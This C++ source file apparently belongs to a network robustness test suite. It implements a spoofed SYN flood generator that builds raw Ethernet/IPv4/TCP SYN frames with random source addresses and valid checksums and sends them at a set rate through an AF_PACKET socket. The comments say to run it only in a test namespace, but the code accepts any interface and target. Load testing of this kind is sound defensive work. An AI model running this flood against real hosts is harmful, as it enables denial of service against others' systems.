// A spoofed SYN flood for tests/robust/syn_flood_test.py: precomputed
// Ethernet/IPv4/TCP SYN frames (random private sources and ports, checksums
// filled in), written into one interface through an AF_PACKET socket with
// sendmmsg, paced to a target rate. Run only inside a network namespace the
// test created: the frames go into the tap's kernel side and nowhere else.
//
//   synflood --iface tcpfp0 --dst-mac M --src-mac M --dst 172.16.48.2 --dport 80
//            [--rate PPS (0: as fast as possible)] [--seconds S] [--frames N]
//            [--src-net 10.0.0.0/8] [--seed N]
//
// Prints one line: `synflood: sent N frames in S s (R frames/s), E send errors`:
// N frames the interface accepted, E frames it refused (ENOBUFS: its queue
// was full; those also count as the interface's TX drops).
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr std::size_t kFrameLen = 14 + 20 + 40;  // Ethernet, IPv4, TCP with 20 option bytes
constexpr unsigned kBatch = 256;

struct Args {
    std::string iface = "tcpfp0";
    std::array<std::uint8_t, 6> dst_mac{};
    std::array<std::uint8_t, 6> src_mac{};
    std::uint32_t dst = 0;       // network order
    std::uint16_t dport = 80;
    double rate = 0;             // frames per second, 0 = unpaced
    double seconds = 5;
    std::size_t frames = 65536;  // distinct frames, sent round robin
    std::uint32_t src_net = 0x0a000000u;  // host order
    unsigned src_bits = 8;
    std::uint64_t seed = 1;
};

[[noreturn]] void usage(const char* why) {
    std::fprintf(stderr, "synflood: %s (see the header of tests/robust/synflood.cpp)\n", why);
    std::exit(2);
}

bool parse_mac(const char* s, std::array<std::uint8_t, 6>& out) {
    unsigned b[6];
    if (std::sscanf(s, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6) {
        return false;
    }
    for (int i = 0; i < 6; ++i) out[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(b[i]);
    return true;
}

Args parse_args(int argc, char** argv) {
    Args a;
    for (int i = 1; i < argc; ++i) {
        const std::string k = argv[i];
        if (i + 1 >= argc) usage("option without a value");
        const char* v = argv[++i];
        if (k == "--iface") {
            a.iface = v;
        } else if (k == "--dst-mac") {
            if (!parse_mac(v, a.dst_mac)) usage("bad --dst-mac");
        } else if (k == "--src-mac") {
            if (!parse_mac(v, a.src_mac)) usage("bad --src-mac");
        } else if (k == "--dst") {
            if (inet_pton(AF_INET, v, &a.dst) != 1) usage("bad --dst");
        } else if (k == "--dport") {
            a.dport = static_cast<std::uint16_t>(std::atoi(v));
        } else if (k == "--rate") {
            a.rate = std::atof(v);
        } else if (k == "--seconds") {
            a.seconds = std::atof(v);
        } else if (k == "--frames") {
            a.frames = static_cast<std::size_t>(std::atol(v));
        } else if (k == "--seed") {
            a.seed = static_cast<std::uint64_t>(std::atoll(v)) | 1u;
        } else if (k == "--src-net") {
            char addr[32];
            unsigned bits = 0;
            in_addr in{};
            if (std::sscanf(v, "%31[0-9.]/%u", addr, &bits) != 2 || bits < 1 || bits > 30 ||
                inet_pton(AF_INET, addr, &in) != 1) {
                usage("bad --src-net");
            }
            a.src_net = ntohl(in.s_addr);
            a.src_bits = bits;
        } else {
            usage("unknown option");
        }
    }
    if (a.dst == 0) usage("--dst is required");
    if (a.frames == 0) usage("--frames must be positive");
    return a;
}

std::uint64_t next(std::uint64_t& s) {  // xorshift64: reproducible from --seed
    s ^= s << 13;
    s ^= s >> 7;
    s ^= s << 17;
    return s;
}

void put16(std::uint8_t* p, std::uint32_t v) {
    p[0] = static_cast<std::uint8_t>(v >> 8);
    p[1] = static_cast<std::uint8_t>(v);
}
void put32(std::uint8_t* p, std::uint32_t v) {
    put16(p, v >> 16);
    put16(p + 2, v & 0xffffu);
}

// RFC 1071 sum of 16-bit words, not yet complemented.
std::uint32_t sum16(const std::uint8_t* p, std::size_t n, std::uint32_t s = 0) {
    for (std::size_t i = 0; i + 1 < n; i += 2) s += static_cast<std::uint32_t>(p[i] << 8 | p[i + 1]);
    if (n % 2) s += static_cast<std::uint32_t>(p[n - 1] << 8);
    return s;
}
std::uint16_t fold(std::uint32_t s) {
    while (s >> 16) s = (s & 0xffffu) + (s >> 16);
    return static_cast<std::uint16_t>(~s & 0xffffu);
}

// One SYN as Linux sends it: MSS 1460, SACK-permitted, timestamps, NOP,
// window scale 7 (RFC 9293 §3.2, RFC 2018, RFC 7323).
void build_syn(std::uint8_t* f, const Args& a, std::uint64_t& rng) {
    std::memcpy(f, a.dst_mac.data(), 6);
    std::memcpy(f + 6, a.src_mac.data(), 6);
    put16(f + 12, 0x0800);
    std::uint8_t* ip = f + 14;
    const std::uint32_t host_mask = (1u << (32 - a.src_bits)) - 1u;
    std::uint32_t host = static_cast<std::uint32_t>(next(rng)) & host_mask;
    if (host == 0 || host == host_mask) host = 7;  // neither network nor broadcast address
    const std::uint32_t src = (a.src_net & ~host_mask) | host;
    ip[0] = 0x45;
    ip[1] = 0;
    put16(ip + 2, 60);
    put16(ip + 4, static_cast<std::uint32_t>(next(rng)) & 0xffffu);
    put16(ip + 6, 0x4000);  // DF
    ip[8] = 64;
    ip[9] = 6;
    put16(ip + 10, 0);
    put32(ip + 12, src);
    std::memcpy(ip + 16, &a.dst, 4);
    put16(ip + 10, fold(sum16(ip, 20)));
    std::uint8_t* t = ip + 20;
    put16(t, 1024 + static_cast<std::uint32_t>(next(rng) % 64000));
    put16(t + 2, a.dport);
    put32(t + 4, static_cast<std::uint32_t>(next(rng)));
    put32(t + 8, 0);
    t[12] = 10 << 4;  // 40-byte header
    t[13] = 0x02;     // SYN
    put16(t + 14, 64240);
    put16(t + 16, 0);
    put16(t + 18, 0);
    const std::uint8_t opts[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    std::memcpy(t + 20, opts, sizeof opts);
    put32(t + 28, static_cast<std::uint32_t>(next(rng)));  // TSval
    std::uint8_t pseudo[12];
    std::memcpy(pseudo, ip + 12, 8);
    pseudo[8] = 0;
    pseudo[9] = 6;
    put16(pseudo + 10, 40);
    put16(t + 16, fold(sum16(t, 40, sum16(pseudo, 12))));
}

double now_s() {
    timespec ts{};
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

}  // namespace

int main(int argc, char** argv) {
    const Args a = parse_args(argc, argv);
    std::vector<std::uint8_t> frames(a.frames * kFrameLen);
    std::uint64_t rng = a.seed * 0x9e3779b97f4a7c15ull | 1u;
    for (std::size_t i = 0; i < a.frames; ++i) build_syn(&frames[i * kFrameLen], a, rng);

    const int fd = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: send only, receive nothing
    if (fd < 0) {
        std::perror("synflood: socket(AF_PACKET)");
        return 1;
    }
    sockaddr_ll sll{};
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = static_cast<int>(if_nametoindex(a.iface.c_str()));
    if (sll.sll_ifindex == 0 || bind(fd, reinterpret_cast<sockaddr*>(&sll), sizeof sll) != 0) {
        std::perror("synflood: bind");
        return 1;
    }
    int one = 1;  // skip the qdisc: the tap's queue is the only bound
    (void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);

    std::array<iovec, kBatch> iov{};
    std::array<mmsghdr, kBatch> msgs{};
    std::uint64_t sent = 0, errors = 0;
    std::size_t cursor = 0;
    const double start = now_s();
    const double end = start + a.seconds;
    for (double t = start; t < end; t = now_s()) {
        if (a.rate > 0) {
            const double due = static_cast<double>(sent + errors) / a.rate;
            if (t - start < due) {
                if (due - (t - start) > 200e-6) usleep(100);
                continue;
            }
        }
        for (unsigned i = 0; i < kBatch; ++i) {
            iov[i].iov_base = &frames[cursor * kFrameLen];
            iov[i].iov_len = kFrameLen;
            msgs[i].msg_hdr = {};
            msgs[i].msg_hdr.msg_iov = &iov[i];
            msgs[i].msg_hdr.msg_iovlen = 1;
            cursor = (cursor + 1) % a.frames;
        }
        const int n = sendmmsg(fd, msgs.data(), kBatch, 0);
        if (n < 0) {
            ++errors;  // ENOBUFS: the tap's queue was full and dropped the first frame
            continue;
        }
        sent += static_cast<unsigned>(n);
        if (static_cast<unsigned>(n) < kBatch) ++errors;  // the frame after the last one sent
    }
    const double secs = now_s() - start;
    std::printf("synflood: sent %llu frames in %.2f s (%.0f frames/s), %llu send errors\n",
                static_cast<unsigned long long>(sent), secs, static_cast<double>(sent) / secs,
                static_cast<unsigned long long>(errors));
    close(fd);
    return 0;
}
